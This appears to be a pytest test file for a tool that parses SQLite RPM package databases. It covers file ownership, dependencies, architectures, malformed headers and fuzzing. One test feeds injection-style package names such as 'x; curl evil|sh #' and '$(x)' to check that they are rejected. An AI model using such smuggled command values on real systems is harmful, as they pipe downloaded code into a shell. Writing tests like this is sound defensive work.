import sqlite3
import struct
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlbloat.model.package import Package
from mlbloat.packages import rpm, rpmheader
from mlbloat.packages.rpmheader import Tag
from tests.support.trees import Link, tree_of

DATABASE = "/usr/lib/sysimage/rpm/rpmdb.sqlite"
Files = dict[str, bytes | str | None]
Value = str | tuple[str, ...] | tuple[int, ...]


def blob(tags: Mapping[int, Value]) -> bytes:
    """A header as rpm writes it: numbers in network order, texts that end with a zero byte."""
    index, store = b"", b""
    for tag, value in tags.items():
        if isinstance(value, str):
            kind, count, data = 6, 1, value.encode() + b"\0"
        elif value and isinstance(value[0], int):
            store += b"\0" * (-len(store) % 4)
            kind, count, data = 4, len(value), struct.pack(f">{len(value)}I", *value)
        else:
            kind, count, data = 8, len(value), b"".join(str(text).encode() + b"\0" for text in value)
        index += struct.pack(">IIII", tag, kind, len(store), count)
        store += data
    return struct.pack(">II", len(tags), len(store)) + index + store


def package(name: str, *paths: str, architecture: str = "x86_64", **tags: Value) -> bytes:
    directories = tuple(dict.fromkeys(path.rpartition("/")[0] + "/" for path in paths))
    listed: dict[int, Value] = {
        Tag.DIRECTORY_INDEXES: tuple(directories.index(path.rpartition("/")[0] + "/") for path in paths),
        Tag.BASE_NAMES: tuple(path.rpartition("/")[2] for path in paths),
        Tag.DIRECTORY_NAMES: directories,
    }
    more: dict[int, Value] = {Tag[tag]: value for tag, value in tags.items()}
    fixed: dict[int, Value] = {Tag.NAME: name, Tag.VERSION: "1.0", Tag.RELEASE: "2.el9", Tag.ARCH: architecture}
    return blob({**fixed, **(listed if paths else {}), **more})


def database(tmp_path: Path, *blobs: bytes, wal: bool = False) -> bytes:
    path = tmp_path / "rpmdb.sqlite"
    path.unlink(missing_ok=True)
    with sqlite3.connect(path) as connection:
        if wal:
            connection.execute("PRAGMA journal_mode = WAL")
        connection.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
        connection.executemany("INSERT INTO Packages (blob) VALUES (?)", [(each,) for each in blobs])
    connection.close()
    return path.read_bytes()


def packages(files: Files) -> dict[str, Package]:
    return {found.name: found for found in rpm.find(tree_of(files)).packages}


@pytest.mark.parametrize("directory", ["/usr/lib/sysimage/rpm", "/var/lib/rpm"])
@pytest.mark.parametrize("wal", [False, True])
def test_packages_own_their_regular_files_wherever_the_database_is(directory: str, wal: bool, tmp_path: Path) -> None:
    content = database(
        tmp_path,
        package("bash", "/usr/bin/bash", "/usr/bin/sh", "/usr/share/doc/bash/README", "/gone"),
        package("gpg-pubkey"),
        wal=wal,
    )
    found = packages(
        {
            f"{directory}/rpmdb.sqlite": content,
            "/usr/bin/bash": b"\x7fELF",
            "/usr/bin/sh": Link("bash"),
            "/usr/share/doc/bash/README": "text",
        }
    )
    assert set(found) == {"bash"}
    assert found["bash"].version == "1.0-2.el9"
    assert found["bash"].files == ("/usr/bin/bash", "/usr/share/doc/bash/README")
    assert found["bash"].metadata == {"/usr/share/doc/bash/README"}
    assert found["bash"].database == (f"{directory}/rpmdb.sqlite",)


def test_requirements_are_names_capabilities_and_files(tmp_path: Path) -> None:
    content = database(
        tmp_path,
        package("app", REQUIRES=("libc.so.6(GLIBC_2.34)(64bit)", "/bin/sh", "rpmlib(X)", "app"), RECOMMENDS=("docs",)),
        package("glibc", PROVIDES=("glibc", "libc.so.6(GLIBC_2.34)(64bit)"), EPOCH=(2,)),
        package("bash", "/bin/sh"),
        package("docs"),
    )
    found = packages({DATABASE: content})
    assert found["app"].requires == ("rpm:bash@/", "rpm:glibc@/")
    assert found["app"].recommends == ("rpm:docs@/",)
    assert found["glibc"].version == "2:1.0-2.el9"


@pytest.mark.parametrize(
    ("rich", "names"),
    [
        ("(a if b)", {"a"}),
        ("(a or b)", {"a", "b"}),
        ("(a and b and c)", {"a", "b", "c"}),
        ("(a >= 1 if b = 2)", {"a"}),
        ("(a if b else c)", {"a", "c"}),
        ("(a unless b else c)", {"a", "c"}),
        ("(a >= 1 with a < c)", {"a"}),
        ("(a without b)", {"a"}),
        ("((a or b) if (c and b))", {"a", "b"}),
        ("(a if (b else c))", {"a"}),
        ("(lib.so(X)(64bit) if b)", {"d"}),
        ("(b if lib.so(X)(64bit))", {"b"}),
        ("((a) if", {"a"}),
        ("))) (", set()),
    ],
)
def test_rich_dependencies_ask_for_the_names_outside_their_conditions(
    rich: str, names: set[str], tmp_path: Path
) -> None:
    others = [*map(package, "abc"), package("d", PROVIDES=("lib.so(X)(64bit)",))]
    found = packages({DATABASE: database(tmp_path, package("app", REQUIRES=(rich,)), *others)})
    assert set(found["app"].requires) == {f"rpm:{name}@/" for name in names}


def test_the_same_name_for_another_processor_or_in_another_version_is_another_package(tmp_path: Path) -> None:
    content = database(
        tmp_path,
        package("lib", architecture="i686"),
        package("lib"),
        package("other"),
        package("kernel"),
        package("kernel", VERSION="2.0"),
    )
    assert set(packages({DATABASE: content})) == {"lib", "lib:i686", "other", "kernel", "kernel:x86_64"}


@pytest.mark.parametrize(("name", "form"), [("Packages", "Berkeley DB"), ("Packages.db", "ndb")])
def test_a_database_of_another_format_is_named(name: str, form: str) -> None:
    found = rpm.find(tree_of({f"/var/lib/rpm/{name}": b"\0" * 100}))
    assert found.packages == ()
    assert found.problems[0].path == f"/var/lib/rpm/{name}"
    assert form in found.problems[0].text


def test_a_broken_header_is_a_problem_and_the_others_remain(tmp_path: Path) -> None:
    content = database(tmp_path, b"\0\0", package("good"), package("bad")[:40])
    found = rpm.find(tree_of({DATABASE: content}))
    assert [each.name for each in found.packages] == ["good"]
    assert found.problems[0].path == DATABASE


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "-x", "$(x)", "x y", "x\u200by", "", "lib\n"])
def test_a_header_whose_name_is_none_is_a_problem(name: str, tmp_path: Path) -> None:
    content = database(tmp_path, package(name), package("x", architecture="$(x)"), package("libstdc++"))
    found = rpm.find(tree_of({DATABASE: content}))
    assert [each.name for each in found.packages] == ["libstdc++"]
    assert len(found.problems) >= 1


def test_a_view_in_the_place_of_the_table_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "evil.sqlite"
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE VIEW Packages AS SELECT 1 AS hnum, zeroblob(2000000000) AS blob")
    connection.close()
    found = rpm.find(tree_of({DATABASE: path.read_bytes()}))
    assert "it has no table of packages" in found.problems[0].text


def test_a_journal_that_is_not_merged_is_a_problem(tmp_path: Path) -> None:
    found = rpm.find(tree_of({DATABASE: database(tmp_path, package("good")), f"{DATABASE}-wal": "x"}))
    assert [each.name for each in found.packages] == ["good"]
    assert found.problems[0].path == f"{DATABASE}-wal"


@settings(max_examples=80, deadline=None)
@given(st.binary(max_size=120), st.integers(0, 150))
def test_any_damage_to_a_header_gives_a_header_or_a_value_error(noise: bytes, at: int) -> None:
    whole = package("bash", "/usr/bin/bash", PROVIDES=("a", "b"))
    try:
        found = rpmheader.header(whole[:at] + noise + whole[at + len(noise) :])
    except ValueError:
        return
    assert found.name


@settings(max_examples=30, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_as_a_database_are_a_problem(noise: bytes) -> None:
    found = rpm.find(tree_of({DATABASE: b"SQLite format 3\0" + noise}))
    assert found.packages == ()
    assert len(found.problems) == 1
